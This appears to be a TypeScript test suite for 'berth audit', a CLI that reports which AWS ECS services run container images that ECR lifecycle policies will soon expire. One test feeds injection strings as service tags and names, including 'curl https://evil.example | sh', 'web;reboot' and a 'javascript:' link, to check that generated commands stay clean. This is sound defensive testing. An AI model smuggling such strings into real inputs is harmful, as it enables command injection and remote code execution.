import assert from "node:assert/strict";

import type { ClientSettings } from "../../../inventory";
import { berth } from "../command";
import { FakeAws, registry, service } from "../fake-aws";
import { rule } from "../../retention/image-builder";

/** An account with a shared repository, and some services that run images of it. */
function account(policy: readonly object[] | undefined, services: Record<string, number>): FakeAws {
  const aws = new FakeAws();
  const shop = aws.repository("shop");
  for (const [name, ageDays] of Object.entries(services)) {
    const digest = shop.push(name, `${name}-1`);
    shop.age(digest, ageDays);
    aws.taskDefinitions[`${name}:1`] = { web: `${registry}/shop@${digest}` };
    const taskDefinition = `arn:aws:ecs:eu-west-1:000000000000:task-definition/${name}:1`;
    aws.others.push(
      service(1, {
        serviceName: name,
        serviceArn: `arn:aws:ecs:eu-west-1:000000000000:service/main/${name}`,
        taskDefinition,
        deployments: [{ status: "PRIMARY", taskDefinition, rolloutState: "COMPLETED" }],
      }),
    );
  }
  if (policy) shop.policy = JSON.stringify({ rules: policy });
  return aws;
}

const month = rule(1, { countType: "sinceImagePushed", countUnit: "days", countNumber: 30 });
const keepTwo = rule(1, { countNumber: 2 });

describe("berth audit", () => {
  const audit = (aws: FakeAws, ...more: string[]) => berth(["audit", ...more], aws);
  const asJson = async (aws: FakeAws, ...more: string[]) => {
    const ended = await audit(aws, "--format", "json", ...more);
    assert.equal(ended.stderr, "");
    return { code: ended.code, ...(JSON.parse(ended.stdout) as Answer) };
  };

  it("tells how many services run images that expire soon, by which rule and on which day", async () => {
    const aws = account([month], { web: 25, worker: 27, api: 1 });
    const ended = await audit(aws);
    assert.equal(ended.code, 1);
    assert.match(ended.stdout, /^2 of 3 services run images that expire within 7 days\.$/m);
    assert.match(ended.stdout, /^1 more: within 90 days, or by 200 further pushes\.$/m);
    assert.match(
      ended.stdout,
      /^2026-08-04 +rule 1 +shop +sha256:[0-9a-f]{12} worker-1 +service main\/worker/m,
    );
    assert.match(ended.stdout, /berth release mark --cluster main --service worker --as worker --shield/);
    assert.match(ended.stdout, /Not looked at: .*EKS.* `--declared FILE`/);
    assert.match(ended.stdout, /[0-9]+ calls to AWS \(at least [0-9]+ needed\), all read-only/);
  });

  it("prints the name under which a service is counted already: of its tag, or of its image's releases", async () => {
    const line = async (aws: FakeAws) =>
      /--service web --as (\S+)/.exec((await berth(["audit"], aws)).stdout)?.[1];
    const aws = account([month], { web: 27 });
    aws.repository("shop").push("web", "release.front.1");
    assert.equal(await line(aws), "front");
    aws.others = aws.others.map((one) => ({ ...one, tags: [{ key: "berth:service", value: "shop-front" }] }));
    assert.equal(await line(aws), "shop-front");
  });

  it("is content with an account where nothing goes", async () => {
    for (const policy of [undefined, [rule(1, { tagStatus: "untagged" })]]) {
      const ended = await audit(account(policy, { web: 400 }));
      assert.equal(ended.code, 0, ended.stdout);
      assert.match(ended.stdout, /None of 1 service runs an image that is gone or expires within 7 days\./);
    }
  });

  const cases: [title: string, aws: () => FakeAws, argv: string[], expected: object | undefined][] = [
    ["now", () => account([month], { web: 31 }), [], { urgency: "now", rulePriority: 1, outcome: "expired" }],
    ["soon", () => account([month], { web: 29 }), [], { urgency: "soon", at: "2026-08-02T00:00:00.001Z" }],
    ["later", () => account([month], { web: 1 }), [], { urgency: "later" }],
    ["beyond the horizon", () => account([month], { web: 1 }), ["--days", "20"], undefined],
    ["by further pushes", () => account([keepTwo], { web: 1 }), [], { urgency: "by-pushes", pushes: 2 }],
    [
      "by more pushes than were asked for",
      () => account([keepTwo], { web: 1 }),
      ["--pushes", "1"],
      undefined,
    ],
    ["gone", gone, [], { urgency: "gone", rulePriority: null, outcome: "missing" }],
    ["gone, by a tag that nothing has", byLostTag, [], { urgency: "gone", image: `${registry}/shop:lost` }],
    [
      "gone, with its repository",
      withoutRepository,
      [],
      { urgency: "gone", repositoryName: "former", image: `${registry}/former@sha256:${"0".repeat(64)}` },
    ],
  ];
  for (const [title, aws, argv, expected] of cases) {
    it(`finds an image in use that goes ${title}`, async () => {
      const { code, findings } = await asJson(aws(), ...argv);
      assert.equal(code, expected ? 1 : 0);
      assert.deepEqual(findings.length, expected ? 1 : 0);
      for (const [key, value] of Object.entries(expected ?? {}))
        assert.deepEqual(findings[0]![key], value, key);
    });
  }

  it("tells once of a reference that two containers share", async () => {
    const aws = byLostTag();
    aws.taskDefinitions["web:1"]!["sidecar"] = `${registry}/shop:lost`;
    assert.equal((await asJson(aws)).findings.length, 1);
  });

  it("knows tags by the images that it reads, and lists none", async () => {
    const aws = account([month], { web: 31 });
    aws.taskDefinitions["web:1"] = { web: `${registry}/shop:web-1` };
    const { findings } = await asJson(aws);
    assert.equal(findings[0]!["image"], aws.repository("shop").digests[0]);
    assert.ok(!aws.calls.includes("ListImages"));
  });

  it("says how many calls it made beside the fewest, and how many were tried again", async () => {
    const aws = account([month], { web: 1 });
    const clients = (settings: ClientSettings) => {
      settings.onRepeats?.(1200);
      return aws.clients(settings);
    };
    const { stdout } = await berth(["audit"], { clients });
    const said = `${aws.calls.length} calls to AWS (at least ${aws.calls.length} needed; 1,200 tried again after throttling or failures), all read-only`;
    assert.ok(stdout.includes(said), stdout);
    const page = await berth(["audit", "--format", "html"], { clients });
    assert.ok(page.stdout.includes(said), "on the page, too");
    const { calls, leastCalls, repeatedCalls } = await asJson(aws);
    assert.deepEqual([calls, leastCalls, repeatedCalls], [calls, calls, 0]);
  });

  it("tells what is gone from what will go", async () => {
    assert.match((await audit(gone())).stdout, /^1 of 1 service runs an image that is gone\.$/m);
    const aws = account([month], { web: 31, worker: 1 });
    const shop = aws.repository("shop");
    shop.expire(shop.digests[1]!);
    assert.match(
      (await audit(aws)).stdout,
      /^2 of 2 services run images that are gone \(1\) or expire within 7 days\.$/m,
    );
  });

  it("says of a region without repositories which it is, and fails where some are expected", async () => {
    const aws = new FakeAws();
    const config = { region: () => Promise.resolve("eu-north-1") };
    const clients = (options: { readonly region?: string }) => {
      const found = aws.clients(options);
      return { ...found, ecr: { ...found.ecr, config } };
    };
    const none = await berth(["audit"], { clients });
    assert.equal(none.code, 0);
    assert.match(
      none.stdout,
      /There is no repository in eu-north-1 of this account: is it the region that you mean\?/,
    );
    assert.equal((await berth(["audit", "--expect-repositories"], { clients })).code, 2);
    aws.repository("shop").push("x", "v1");
    assert.equal((await berth(["audit", "--expect-repositories"], { clients })).code, 0);
  });

  it("answers machines with services, findings, repositories and what was not looked at", async () => {
    const answer = await asJson(account([month], { web: 31, worker: 1 }));
    assert.deepEqual(answer.services, { total: 2, atRiskSoon: 1, atRisk: 2 });
    assert.equal(answer.accountId, "000000000000");
    assert.equal(answer.repositories[0]!["images"], 2);
    assert.deepEqual(
      answer.notLookedAt.map(({ source }) => source),
      ["app-runner", "batch", "codebuild", "task-definitions"],
    );
  });

  it("says what cleaning would save", async () => {
    const aws = account(undefined, { web: 300 });
    const shop = aws.repository("shop");
    for (let n = 0; n < 10; n++) shop.push(`build ${n}`, `build-${n}`);
    const { repositories } = await asJson(aws, "--keep-images", "4");
    assert.deepEqual(repositories[0]!["storage"], {
      bytes: 11 * 50_000_000,
      // All but the newest four, and the one that runs.
      cleanableImages: 6,
      cleanableBytes: 6 * 50_000_000,
    });
    const ended = await audit(aws, "--keep-images", "4");
    assert.match(ended.stdout, /would delete 6 images: at most 0\.3 GB, \$0\.03 a month at \$0\.10 a GB\./);
  });

  it("writes markdown for a pull request, whatever names there are", async () => {
    const aws = account([month], { "web|<b>": 31 });
    for (const argv of [["--markdown"], ["--format", "markdown"]]) {
      const ended = await audit(aws, ...argv);
      assert.equal(ended.code, 1);
      assert.match(ended.stdout, /^### 1 of 1 service runs an image that expires within 7 days\.$/m);
      assert.match(
        ended.stdout,
        /^\| any time \| rule 1 \| `shop` \| `.*` \| `service main\/web\\\|<b> .*` \|$/m,
      );
    }
  });

  for (const [title, name, tag] of [
    ["a service's tag", "web", "x`; curl https://evil.example | sh #"],
    ["a service's name", "web;reboot", "web"],
    ["a service's name that is a link", "[click](javascript:x)", "web"],
  ] as const)
    it(`puts nothing of ${title} into a command that somebody will copy`, async () => {
      const aws = account([month], { [name]: 25 });
      aws.others = aws.others.map((one) => ({ ...one, tags: [{ key: "berth:service", value: tag }] }));
      for (const argv of [[], ["--markdown"], ["--format", "html"]]) {
        const { stdout } = await audit(aws, ...argv);
        const [command = ""] = /berth release mark [^\n]*--shield/.exec(stdout) ?? [];
        assert.match(
          command,
          /^berth release mark --cluster main --service (web|<name>|&#60;name&#62;) --as [a-z0-9-]+ --shield$/,
        );
      }
    });

  it("writes a page with a timeline, whatever names there are", async () => {
    const aws = account([month], { "web<script>": 25, worker: 400 });
    const shop = aws.repository("shop");
    shop.age(shop.push("former", "release.web.1"), 20);
    const ended = await audit(aws, "--format", "html");
    assert.equal(ended.code, 1);
    const { stdout } = ended;
    assert.match(stdout, /^<!doctype html>/);
    assert.doesNotMatch(stdout, /<script|https?:\/\/(?!www\.w3\.org)/, "it loads and runs nothing");
    assert.ok(stdout.includes("main/web&#60;script&#62;"));
    assert.equal(stdout.match(/<g class="image goes used">/g)?.length, 2);
    assert.equal(stdout.match(/<g class="image goes">/g)?.length, 1, "the former release");
    assert.match(stdout, /Of all images it deletes those that were pushed more than 30 days ago/);
    assert.doesNotMatch(stdout, /NaN|undefined|Infinity/);
  });

  it("shows the most urgent fifty, and how many more there are", async () => {
    const services = Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`web-${n}`, n]));
    const aws = account([month], services);
    for (const argv of [[], ["--markdown"], ["--format", "html"]]) {
      const { stdout } = await audit(aws, ...argv);
      assert.match(stdout, /10 more findings: `--format json` has all\./);
    }
    assert.equal((await asJson(aws)).findings.length, 60);
  });

  it("looks only at the repositories that it is asked for", async () => {
    const aws = account([month], { web: 31 });
    aws.repository("other");
    const { code, repositories } = await asJson(aws, "--repository", "other");
    assert.equal(code, 0);
    assert.deepEqual(
      repositories.map(({ repositoryName }) => repositoryName),
      ["other"],
    );
  });

  it("can't tell what a policy does that it doesn't know, and says so", async () => {
    const aws = account(undefined, { web: 1 });
    aws.repository("shop").policy = JSON.stringify({ rules: [{ ...keepTwo, colour: "red" }] });
    const ended = await audit(aws);
    assert.equal(ended.code, 2);
    assert.match(ended.stdout, /The lifecycle policy of shop can't be evaluated[^]*colour/);
  });

  it("is content with an account without repositories", async () => {
    const ended = await audit(new FakeAws());
    assert.equal(ended.code, 0);
    assert.match(
      ended.stdout,
      /There is no repository in this region of this account: is it the region that you mean\?/,
    );
  });

  it("prints the IAM policy that it needs, without asking AWS", async () => {
    const aws = new FakeAws();
    const ended = await audit(aws, "--print-policy", "--sources", "lambda");
    assert.equal(ended.code, 0);
    const { Statement } = JSON.parse(ended.stdout) as { Statement: { Action: string[] }[] };
    assert.ok(Statement[0]!.Action.includes("lambda:ListFunctions"));
    assert.ok(!Statement[0]!.Action.includes("ecs:ListTasks"));
    assert.ok(!Statement[0]!.Action.includes("ecr:ListImages"));
    assert.ok(
      Statement[0]!.Action.every((action) => /:(BatchGet|Describe|Get|List|FilterLogEvents)/.test(action)),
      "read-only",
    );
    assert.deepEqual(aws.calls, []);
  });

  it("shows how far it is, on a terminal", async () => {
    const aws = account([month], { web: 1, worker: 1, api: 1, admin: 1 });
    const lines: string[] = [];
    await berth(["audit"], { ...aws, stderr: { write: (text) => lines.push(text), isTTY: true } });
    assert.match(lines.join(""), / calls, ecs:ListTasks/);
    assert.equal(lines.at(-1), "\r\u001B[K");
  });

  const refusals: [title: string, denied: string, argv: string[], said: RegExp][] = [
    [
      "to judge without having seen all tasks",
      "ListTasks",
      [],
      /ecs:ListTasks is missing[^]*Allow ecs:ListTasks/,
    ],
    ["to judge without having seen all images", "DescribeImages", [], /ecr:DescribeImages is missing/],
    ["to judge without the policies", "GetLifecyclePolicy", [], /ecr:GetLifecyclePolicy is missing/],
    [
      "a repository that is not there",
      "",
      ["--repository", "shpo"],
      /no repository shpo .*Did you mean shop\?/,
    ],
  ];
  for (const [title, denied, argv, said] of refusals) {
    it(`refuses ${title}`, async () => {
      const aws = account([month], { web: 31 });
      aws.denied = [denied];
      const ended = await audit(aws, ...argv);
      assert.equal(ended.code, 2);
      assert.equal(ended.stdout, "");
      assert.match(ended.stderr, said);
      assert.doesNotMatch(ended.stderr, /^ {4}at /m);
    });
  }
});

/** The service runs, and the registry has its image no more. */
function gone(): FakeAws {
  const aws = account([month], { web: 1 });
  const shop = aws.repository("shop");
  shop.expire(shop.digests[0]!);
  return aws;
}

function byLostTag(): FakeAws {
  const aws = account([month], { web: 1 });
  const shop = aws.repository("shop");
  shop.expire(shop.digests[0]!);
  aws.taskDefinitions["web:1"] = { web: `${registry}/shop:lost` };
  return aws;
}

/** By digest, from a repository that was deleted. */
function withoutRepository(): FakeAws {
  const aws = account([month], { web: 1 });
  aws.taskDefinitions["web:1"] = { web: `${registry}/former@sha256:${"0".repeat(64)}` };
  return aws;
}

interface Answer {
  readonly accountId: string;
  readonly services: object;
  readonly calls: number;
  readonly leastCalls: number;
  readonly repeatedCalls: number;
  readonly findings: readonly Record<string, unknown>[];
  readonly repositories: readonly Record<string, unknown>[];
  readonly notLookedAt: readonly { readonly source: string }[];
}
